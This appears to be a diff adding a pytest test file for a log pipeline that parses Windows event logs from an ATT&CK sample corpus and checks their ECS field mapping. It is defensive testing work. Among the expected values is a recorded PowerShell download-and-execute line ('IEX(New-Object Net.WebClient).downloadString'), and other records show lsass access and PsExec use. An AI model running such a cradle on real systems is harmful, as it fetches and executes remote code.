@@ -1,0 +1,437 @@
+"""Windows event logs (.evtx): every corpus file parses without dead letters, values are exactly what the
+``evtx`` package reads, the ECS mapping of the common event ids, and broken files are dead-lettered."""
+
+from __future__ import annotations
+
+import gzip
+import json
+from pathlib import Path
+
+import polars as pl
+import pytest
+
+from soc import pipeline
+from soc.parse.spec import load_spec
+from soc.sources import discover
+from tests.conftest import ROOT
+
+evtx = pytest.importorskip("evtx")
+
+SPEC = load_spec(ROOT / "parsers" / "windows_evtx.yml")
+SPECS = {SPEC.name: SPEC}
+SYSMON = "Microsoft-Windows-Sysmon/Operational"
+
+
+class Keep(pipeline.Sink):
+    """Keeps every frame (by key) and the dead letters."""
+
+    def __init__(self):
+        self.frames: dict[tuple[str, str], list[pl.DataFrame]] = {}
+        self.dead: list[pl.DataFrame] = []
+
+    def write(self, source_path, family, dataset, frame):
+        self.frames.setdefault((family, dataset), []).append(frame)
+
+    def write_dead(self, source_path, dead):
+        if dead.height:
+            self.dead.append(dead)
+
+
+def parse(paths: list[Path | str], specs=SPECS) -> tuple[list[pipeline.SourceStats], dict, pl.DataFrame | None]:
+    keep = Keep()
+    stats = pipeline.run(discover([str(p) for p in paths]), keep, specs=specs)
+    frames = {k: pl.concat(v, how="diagonal_relaxed") for k, v in keep.frames.items()}
+    return stats, frames, pl.concat(keep.dead) if keep.dead else None
+
+
+def evtx_files(root: Path) -> list[Path]:
+    return sorted(root.rglob("*.evtx"))
+
+
+def record(frames: dict, dataset: str, record_id: int) -> dict:
+    frame = frames[("windows", dataset)]
+    rows = frame.filter(pl.col("log.line") == record_id)  # the record number in the file
+    assert rows.height == 1, f"{dataset} record {record_id}: {rows.height} rows"
+    return rows.row(0, named=True)
+
+
+def as_text(value) -> str | None:
+    """A value of the evtx package's JSON as the text the frames hold."""
+    if value is None or isinstance(value, str):
+        return value
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, dict) and "#text" in value:
+        return as_text(value["#text"])
+    if isinstance(value, int | float):
+        return str(value)
+    return json.dumps(value, separators=(",", ":"), ensure_ascii=False)
+
+
+# (a) acceptance: every file of the ATT&CK corpus, zero dead letters
+
+def test_every_attack_corpus_file_parses_without_dead_letters(corpora):
+    files = evtx_files(corpora / "evtx" / "evtx-to-mitre-attack")
+    assert len(files) == 281
+    stats, frames, dead = parse(files)
+    assert len(stats) == len(files)
+    for st in stats:
+        assert st.error is None, (st.path, st.error)
+        assert st.format == "windows_evtx", st.path
+        assert st.dead == 0, (st.path, dead.filter(pl.col("log.file.path") == st.path).head(3) if dead is not None
+                              else None)
+        assert st.read == st.parsed > 0, st.path
+    total = sum(st.read for st in stats)
+    assert total == sum(f.height for f in frames.values()) == 10_015
+    for (family, dataset), frame in frames.items():
+        assert family == "windows"
+        assert frame["@timestamp"].null_count() == 0, dataset
+        assert frame["winlog.event_id"].n_unique() == 1, dataset  # one event id per frame
+
+
+# (b) values are exactly what the evtx package reads (the .evtx is the truth, not the trimmed .json copies)
+
+def test_sigma_regression_values_equal_the_evtx_content(corpora):
+    files = evtx_files(corpora / "sigma" / "regression_data")
+    assert len(files) >= 150
+    checked = 0
+    for path in files:
+        stats, frames, dead = parse([path])
+        assert stats[0].dead == 0 and stats[0].error is None, (path, stats[0].error, dead)
+        by_id = {}
+        for frame in frames.values():
+            for row in frame.iter_rows(named=True):
+                by_id[(row["winlog.channel"], row["winlog.record_id"])] = row
+        for rec in evtx.PyEvtxParser(str(path)).records_json():
+            event = json.loads(rec["data"])["Event"]
+            system = event["System"]
+            eid = system["EventID"]
+            eid = int(eid["#text"] if isinstance(eid, dict) else eid)
+            row = by_id[(system.get("Channel"), int(system["EventRecordID"]))]
+            assert row["winlog.event_id"] == eid
+            assert row["host.hostname"] == system["Computer"]
+            assert row["winlog.provider_name"] == system["Provider"]["#attributes"]["Name"]
+            data = event.get("EventData") or {}
+            if "EventData" not in event and event.get("UserData"):
+                (data,) = event["UserData"].values()
+            for name, value in (data or {}).items():
+                if name == "#attributes":
+                    continue
+                column = name if name in row and not name.startswith(("winlog.", "event.")) else \
+                    f"winlog.event_data.{name}"
+                assert row[column] == as_text(value), (path.name, name)
+                checked += 1
+    assert checked > 1000
+
+
+def test_trailing_whitespace_is_kept(corpora):
+    path = next((corpora / "evtx" / "evtx-to-mitre-attack").rglob("ID4624,4688,5140,5145-Eternal Romance*.evtx"))
+    _, frames, _ = parse([path])
+    row = record(frames, "windows.security.4624", 4)
+    assert row["LogonProcessName"] == "NtLmSsp "
+
+
+# (c) ECS mapping of the listed event ids, on real records
+
+ATTACK = "evtx/evtx-to-mitre-attack/"
+CASES = [
+    # Security
+    ("EVTX_full_APT_attack_steps/ID4624,4688,5140,5145-Eternal Romance - MS17_010_psexec (GLOBAL).evtx",
+     "windows.security.4624", 4,
+     {"user.name": "admmig", "user.domain": "OFFSEC", "source.ip": "10.23.123.11", "source.port": 41747,
+      "process.pid": 0, "process.executable": None, "event.action": "logged-in", "event.outcome": "success",
+      "event.category": "authentication", "winlog.logon.type": "3", "event.code": "4624",
+      "winlog.event_id": 4624, "winlog.channel": "Security", "TargetUserName": "admmig", "LogonType": "3",
+      "IpPort": "41747", "ProcessName": "-", "WorkstationName": "0Konuy9q8HtkWeKS"}),
+    ("TA0001-Initial access/T1078-Valid accounts/ID4625-failed login with denied access due to account "
+     "restriction.evtx", "windows.security.4625", 1,
+     {"user.name": None, "source.ip": "10.23.23.9", "source.port": 0, "process.pid": 0x1310,
+      "process.executable": "C:\\Windows\\System32\\winlogon.exe", "event.action": "logon-failed",
+      "event.outcome": "failure", "Status": "0xc000006e", "SubjectUserName": "FS03$", "TargetUserName": "-"}),
+    ("TA0004-Privilege Escalation/T1134-Access Token Manipulation/ID4648-4624-RunAsCS login.evtx",
+     "windows.security.4648", 2,
+     {"user.name": "admmig", "user.domain": "OFFSEC", "user.target.name": "test10", "source.ip": None,
+      "source.port": None, "process.pid": 0x9D0, "event.action": "logged-in-explicit",
+      "process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+      "TargetServerName": "localhost", "IpAddress": "-"}),
+    ("EVTX_full_APT_attack_steps/ID4624,4688,5140,5145-Eternal Romance - MS17_010_psexec (GLOBAL).evtx",
+     "windows.security.4672", 3,
+     {"user.name": "admmig", "user.domain": "OFFSEC", "event.action": "logged-in-special",
+      "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t"
+                       "SeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege"
+                       "\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege"}),
+    ("EVTX_full_APT_attack_steps/ID4624,4688,5140,5145-Eternal Romance - MS17_010_psexec (GLOBAL).evtx",
+     "windows.security.4688", 11,
+     {"user.name": "FS03VULN$", "user.domain": "OFFSEC", "process.executable": "C:\\Windows\\System32\\cmd.exe",
+      "process.pid": 0x6E8, "process.parent.pid": 0x1D0, "event.action": "created-process",
+      "event.category": "process", "NewProcessName": "C:\\Windows\\System32\\cmd.exe", "NewProcessId": "0x6e8"}),
+    ("EVTX_full_APT_attack_steps/ID4720,4698-Fortinet APT group abuse on Windows.evtx", "windows.security.4720", 1,
+     {"user.name": "admmig", "user.domain": "OFFSEC", "user.target.name": "WADGUtilityAccount",
+      "user.target.domain": "FS01", "event.action": "added-user-account", "SamAccountName": "WADGUtilityAccount",
+      "PrimaryGroupId": "513"}),
+    ("TA0003-Persistence/T1098.xxx-Account manipulation/ID4732-4733-Quick added-removed user from local group.evtx",
+     "windows.security.4732", 1,
+     {"user.name": "admmig", "group.name": "Users", "group.domain": "Builtin", "user.target.name": None,
+      "event.action": "added-member-to-group", "MemberSid": "S-1-5-21-1470532092-3758209836-3742276719-1001",
+      "MemberName": "-"}),
+    # Sysmon
+    ("EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx", "windows.sysmon.1", 1,
+     {"process.executable": "C:\\TOOLS\\PsExec64.exe", "process.command_line": "PsExec64.exe  -i -s cmd",
+      "process.pid": 2124, "user.name": "admmig", "user.domain": "OFFSEC", "event.action": "process-created",
+      "winlog.channel": SYSMON, "winlog.event_id": 1, "Image": "C:\\TOOLS\\PsExec64.exe",
+      "CommandLine": "PsExec64.exe  -i -s cmd", "User": "OFFSEC\\admmig", "ProcessId": "2124",
+      "TerminalSessionId": "2", "LogonId": "0x83ef56"}),
+    ("TA0002-Execution/T1047-Windows Management Instrumentation/ID3-7-10-Suspicious DLL loaded (CME+Mimikatz).evtx",
+     "windows.sysmon.3", 3,
+     {"source.ip": "10.23.42.38", "source.port": 62095, "destination.ip": "10.23.123.11", "destination.port": 443,
+      "process.pid": 2668, "network.transport": "tcp", "destination.domain": None, "event.action": "network-connection",
+      "process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+      "Initiated": "true", "SourceIsIpv6": "false", "DestinationPort": "443", "DestinationHostname": "-"}),
+    ("TA0002-Execution/T1047-Windows Management Instrumentation/ID3-7-10-Suspicious DLL loaded (CME+Mimikatz).evtx",
+     "windows.sysmon.7", 1,
+     {"file.path": "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\"
+                   "287ded39f444f2847a5175b4bf51f9c9\\System.Management.Automation.ni.dll",
+      "process.pid": 2668, "event.action": "image-loaded", "OriginalFileName": "System.Management.Automation.dll"}),
+    ("TA0002-Execution/T1047-Windows Management Instrumentation/ID3-7-10-Suspicious DLL loaded (CME+Mimikatz).evtx",
+     "windows.sysmon.10", 4,
+     {"process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "process.pid": 2668,
+      "process.target.executable": "C:\\Windows\\system32\\lsass.exe", "process.target.pid": 480,
+      "event.action": "process-accessed", "GrantedAccess": "0x143a", "TargetImage": "C:\\Windows\\system32\\lsass.exe",
+      "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+90eaa|C:\\Windows\\system32\\KERNELBASE.dll+2e5e|"
+                   "UNKNOWN(000000CDD65B2A68)"}),
+    ("EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx", "windows.sysmon.11", 3,
+     {"file.path": "C:\\Windows\\PSEXESVC.exe", "process.executable": "C:\\TOOLS\\PsExec64.exe", "process.pid": 2124,
+      "event.action": "file-created", "TargetFilename": "C:\\Windows\\PSEXESVC.exe"}),
+    ("EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx", "windows.sysmon.13", 2,
+     {"registry.path": "HKU\\S-1-5-21-4230534742-2542757381-3142984815-1111\\Software\\Sysinternals\\PsExec\\"
+                       "EulaAccepted",
+      "registry.data.strings": "DWORD (0x00000001)", "event.action": "registry-value-set", "EventType": "SetValue"}),
+    ("EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx", "windows.sysmon.22", 15,
+     {"dns.question.name": "fs03vuln", "process.executable": "C:\\TOOLS\\PsExec64.exe", "event.action": "dns-query",
+      "QueryName": "fs03vuln", "QueryResults": "10.23.42.38;", "QueryStatus": "0"}),
+    # PowerShell script blocks
+    ("TA0002-Execution/T1059.001-PowerShell/ID4103-4104-Payload download via PowerShell.evtx",
+     "windows.powershell.4104", 1,
+     {"powershell.file.script_block_text": "\"IEX(New-Object Net.WebClient).downloadString('https://miro.medium.com/"
+                                           "max/1400/1*FnPDYeZVrGTbuE7Lj7JhgQ.png')\"",
+      "powershell.file.script_block_id": "965150b4-b107-4cce-9d30-1d3c55a8a085", "powershell.sequence": 1,
+      "event.action": "execute-script-block", "MessageNumber": "1", "MessageTotal": "1",
+      "winlog.channel": "Microsoft-Windows-PowerShell/Operational"}),
+]
+
+
+@pytest.mark.parametrize(("file", "dataset", "record_id", "expected"), CASES,
+                         ids=[c[1] for c in CASES])
+def test_ecs_mapping_of_real_records(corpora, file, dataset, record_id, expected):
+    _, frames, dead = parse([corpora / ATTACK / file])
+    assert dead is None
+    row = record(frames, dataset, record_id)
+    got = {k: row[k] for k in expected}
+    assert got == expected
+    assert row["event.dataset"] == dataset.rsplit(".", 1)[0]
+    assert row["log.line"] == record_id and row["log.file.path"].endswith(Path(file).name)
+
+
+def test_mapping_of_logoff_and_lockout():
+    """4634 and 4740 are in no corpus file: the mapping is checked on their documented fields."""
+    from soc.parse.columns import Context
+    from soc.parse.windows import mapping_of
+
+    mapping = mapping_of(SPEC)
+    base = {"System.Channel": ["Security"], "System.TimeCreated": ["2024-03-01T10:00:00.1234567Z"],
+            "System.Computer": ["DC01.corp.local"], "System.Provider": ["Microsoft-Windows-Security-Auditing"],
+            "System.EventRecordID": ["77"]}
+    origin = {"log.file.path": pl.Series(["x.evtx"], dtype=pl.Categorical), "log.line": pl.Series([77])}
+    logoff = pl.DataFrame({**base, "System.EventID": ["4634"], "TargetUserName": ["bob "],
+                           "TargetDomainName": ["CORP"], "LogonType": ["3"]})
+    frame, why = mapping.typed(logoff, ["TargetUserName", "TargetDomainName", "LogonType"], "Security", "4634",
+                               Context("x.evtx"), origin)
+    row = frame.row(0, named=True)
+    assert why.null_count() == 1
+    assert (row["user.name"], row["user.domain"], row["event.action"], row["TargetUserName"]) == \
+        ("bob ", "CORP", "logged-out", "bob ")
+    assert str(row["@timestamp"]) == "2024-03-01 10:00:00.123456+00:00"
+    lockout = pl.DataFrame({**base, "System.EventID": ["4740"], "TargetUserName": ["alice"],
+                            "TargetDomainName": ["WKS07"], "SubjectUserName": ["DC01$"], "SubjectDomainName": ["CORP"]})
+    frame, _ = mapping.typed(lockout, ["TargetUserName", "TargetDomainName", "SubjectUserName", "SubjectDomainName"],
+                             "Security", "4740", Context("x.evtx"), origin)
+    row = frame.row(0, named=True)
+    assert (row["user.name"], row["user.target.name"], row["event.action"], row["winlog.event_id"]) == \
+        ("DC01$", "alice", "locked-out-user-account", 4740)
+
+
+# broken inputs: dead-lettered with a reason, never a crash
+
+SMALL = ATTACK + ("TA0002-Execution/T1569.002-Service execution/"
+                  "ID7000,7009,7045-Payload deployed via service - Tchopper.evtx")
+
+
+def test_truncated_file_dead_letters_the_lost_records(corpora, tmp_path):
+    data = (corpora / SMALL).read_bytes()
+    whole, _, _ = parse([corpora / SMALL])
+    cut = tmp_path / "cut.evtx"
+    cut.write_bytes(data[: 4096 + 65536 + 30_000])  # the second chunk ends half-way
+    (st,), frames, dead = parse([cut])
+    assert st.error is None
+    assert st.read == st.parsed + st.dead
+    assert st.parsed == 97 and st.dead > 0
+    assert st.read <= whole[0].read
+    assert dead["error.message"].str.contains("truncated").all()
+    assert (dead["event.original"].bin.size() > 0).any()  # the record's bytes as far as the file has them
+    assert dead["log.line"].is_unique().all()
+
+
+def test_corrupt_chunk_is_dead_lettered_with_the_parser_reason(corpora, tmp_path):
+    data = bytearray((corpora / SMALL).read_bytes())
+    data[4096 + 65536 + 2000: 4096 + 65536 + 2600] = b"\xff" * 600
+    bad = tmp_path / "bad.evtx"
+    bad.write_bytes(bytes(data))
+    (st,), _, dead = parse([bad])
+    assert st.error is None and st.read == st.parsed + st.dead
+    assert st.dead == 96  # records 98..193, the chunk the evtx package skipped
+    assert dead["error.message"].str.contains("Failed to parse chunk").all()
+
+
+def test_not_an_evtx_file_is_one_dead_letter(tmp_path):
+    fake = tmp_path / "fake.evtx"
+    fake.write_bytes(b"ElfFile\x00" + b"\x00" * 100)
+    (st,), frames, dead = parse([fake])
+    assert st.error is None and (st.read, st.dead, st.parsed) == (1, 1, 0)
+    assert "not a readable EVTX file" in dead["error.message"][0]
+
+
+def test_text_forced_as_evtx_is_dead_lettered(tmp_path):
+    text = tmp_path / "t.log"
+    text.write_bytes(b"hello\nworld\n")
+    keep = Keep()
+    (st,) = pipeline.run(discover([str(text)]), keep, pipeline.Options(format="windows_evtx"), specs=SPECS)
+    assert (st.read, st.dead) == (1, 1)  # the input is one unreadable file, not records
+
+
+def test_gzipped_evtx_is_sniffed_and_read(corpora, tmp_path):
+    src = corpora / SMALL
+    gz = tmp_path / "s.evtx.gz"
+    gz.write_bytes(gzip.compress(src.read_bytes()))
+    (plain,), frames_a, _ = parse([src])
+    (st,), frames_b, _ = parse([gz])
+    assert st.format == "windows_evtx" and st.dead == 0 and st.read == plain.read
+    assert set(frames_a) == set(frames_b)
+
+
+def test_sniffed_among_every_spec(corpora):
+    from soc.parse.spec import load_specs
+
+    stats, _, _ = parse([corpora / SMALL], specs=load_specs())
+    assert stats[0].format == "windows_evtx" and stats[0].dead == 0
+
+
+def test_small_batches_give_the_same_frames(corpora):
+    """Records split over many batches (and groups over batches) give the same rows as one batch."""
+    import dataclasses
+
+    path = corpora / ATTACK / CASES[0][0]
+    small = dataclasses.replace(SPEC, options={**SPEC.options, "batch": 7})
+    (one,), frames_one, _ = parse([path])
+    (many,), frames_many, _ = parse([path], specs={SPEC.name: small})
+    assert one.read == many.read == many.parsed and many.dead == 0
+    assert set(frames_one) == set(frames_many)
+    for key, frame in frames_one.items():
+        other = frames_many[key].select(frame.columns)
+        assert frame.sort("log.line").equals(other.sort("log.line")), key
+
+
+def test_parquet_sink_keeps_every_group_and_column(corpora, tmp_path):
+    from soc.sinks.parquet import ParquetSink, read_family
+
+    path = corpora / SMALL
+    (st,) = pipeline.run(discover([str(path)]), ParquetSink(tmp_path), specs=SPECS)
+    assert st.dead == 0
+    frame = read_family(tmp_path, "windows").collect()
+    assert frame.height == st.read
+    assert {"winlog.event_id", "ServiceName", "ImagePath", "param1"} <= set(frame.columns)
+
+
+def test_parquet_sink_takes_columns_that_change_between_chunks(tmp_path):
+    from soc.sinks.parquet import ParquetSink, read_family
+
+    sink = ParquetSink(tmp_path)
+    for frame in (pl.DataFrame({"a": [1], "b": ["x"]}), pl.DataFrame({"a": [2]}),
+                  pl.DataFrame({"a": [3], "c": ["new"]}), pl.DataFrame({"a": [4], "c": ["again"]})):
+        sink.write("/logs/Security.evtx", "windows", "windows.security.4624", frame)
+    sink.close_source("/logs/Security.evtx")
+    sink.close()
+    got = read_family(tmp_path, "windows").collect().sort("a")
+    assert got["a"].to_list() == [1, 2, 3, 4]
+    assert got["b"].to_list() == ["x", None, None, None] and got["c"].to_list() == [None, None, "new", "again"]
+
+
+# Winlogbeat and NXLog JSON lines: routed and mapped like the EVTX files
+
+WINLOGBEAT = (
+    '{"@timestamp":"2024-03-01T03:00:00.123Z","event":{"code":"4624"},"winlog":{"channel":"Security",'
+    '"event_id":4624,"provider_name":"Microsoft-Windows-Security-Auditing","record_id":987,'
+    '"computer_name":"DC01.corp.local","event_data":{"TargetUserName":"bob ","TargetDomainName":"CORP",'
+    '"IpAddress":"10.0.0.5","IpPort":"50123","LogonType":"3","ProcessId":"0x1f4",'
+    '"ProcessName":"C:\\\\Windows\\\\System32\\\\lsass.exe"},"process":{"pid":640,"thread":{"id":700}}}}\n'
+    '{"@timestamp":"2024-03-01T03:00:01Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational",'
+    '"event_id":"1","provider_name":"Microsoft-Windows-Sysmon","record_id":5,"computer_name":"WS1",'
+    '"event_data":{"Image":"C:\\\\x.exe","CommandLine":"x.exe -a ","ProcessId":"42","User":"CORP\\\\alice"}}}\n'
+    '{"@timestamp":"2024-03-01T03:00:01Z","winlog":{"channel":"Security","event_id":4625\n'
+    'not json at all\n'
+)
+NXLOG = (
+    '{"EventTime":"2024-03-01 10:00:00","Hostname":"DC01.corp.local","Keywords":-9214364837600034816,'
+    '"EventType":"AUDIT_SUCCESS","SeverityValue":2,"Severity":"INFO","EventID":4688,'
+    '"SourceName":"Microsoft-Windows-Security-Auditing","Version":2,"Task":13312,"RecordNumber":12345,'
+    '"Channel":"Security","Message":"A new process has been created.","SubjectUserName":"alice",'
+    '"SubjectDomainName":"CORP","NewProcessId":"0x1a2b","NewProcessName":"C:\\\\Windows\\\\System32\\\\cmd.exe",'
+    '"CommandLine":"cmd.exe /c whoami ","ParentProcessName":"C:\\\\Windows\\\\explorer.exe","ProcessId":"0x10",'
+    '"EventReceivedTime":"2024-03-01 10:00:01","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}\n'
+)
+
+
+def test_winlogbeat_lines():
+    from tests.conftest import parse_text
+
+    res = parse_text("winlogbeat", WINLOGBEAT)
+    assert (res.lines, res.parsed, res.dead.height) == (4, 2, 2)
+    assert res.dead["error.message"].to_list() == ["truncated JSON object", "not a JSON object"]
+    assert res.dead["log.line"].to_list() == [3, 4]
+    logon = res.frames[("windows", "windows.security.4624")].row(0, named=True)
+    assert {k: logon[k] for k in ("user.name", "user.domain", "source.ip", "source.port", "process.pid",
+                                  "event.action", "winlog.record_id", "host.hostname", "TargetUserName",
+                                  "ProcessId", "winlog.process.pid")} == {
+        "user.name": "bob ", "user.domain": "CORP", "source.ip": "10.0.0.5", "source.port": 50123,
+        "process.pid": 0x1F4, "event.action": "logged-in", "winlog.record_id": 987,
+        "host.hostname": "DC01.corp.local", "TargetUserName": "bob ", "ProcessId": "0x1f4", "winlog.process.pid": 640}
+    assert str(logon["@timestamp"]) == "2024-03-01 03:00:00.123000+00:00"
+    proc = res.frames[("windows", "windows.sysmon.1")].row(0, named=True)
+    assert (proc["process.command_line"], proc["user.name"], proc["user.domain"], proc["CommandLine"]) == \
+        ("x.exe -a ", "alice", "CORP", "x.exe -a ")
+
+
+def test_nxlog_lines():
+    from tests.conftest import parse_text
+
+    res = parse_text("nxlog_windows", NXLOG + "{\"EventID\": 4688, \"Channel\": \"Security\"\n")
+    assert (res.lines, res.parsed, res.dead.height) == (2, 1, 1)
+    row = res.frames[("windows", "windows.security.4688")].row(0, named=True)
+    assert {k: row[k] for k in ("user.name", "process.executable", "process.command_line", "process.pid",
+                                "process.parent.executable", "process.parent.pid", "winlog.record_id",
+                                "event.dataset", "CommandLine", "NewProcessId")} == {
+        "user.name": "alice", "process.executable": "C:\\Windows\\System32\\cmd.exe",
+        "process.command_line": "cmd.exe /c whoami ", "process.pid": 0x1A2B,
+        "process.parent.executable": "C:\\Windows\\explorer.exe", "process.parent.pid": 0x10,
+        "winlog.record_id": 12345, "event.dataset": "windows.security", "CommandLine": "cmd.exe /c whoami ",
+        "NewProcessId": "0x1a2b"}
+    assert "Message" not in row and "SourceModuleName" not in row  # NXLog's own fields are not EventData
+    assert str(row["@timestamp"]) == "2024-03-01 03:00:00+00:00"  # 10:00 in Ho Chi Minh City
+
+
+def test_json_lines_are_sniffed():
+    from soc.parse.spec import load_specs
+    from soc.sources.sniff import sniff
+
+    signatures = [s.signature for s in load_specs().values()]
+    assert sniff(WINLOGBEAT.encode(), signatures) == "winlogbeat"
+    assert sniff(NXLOG.encode(), signatures) == "nxlog_windows"
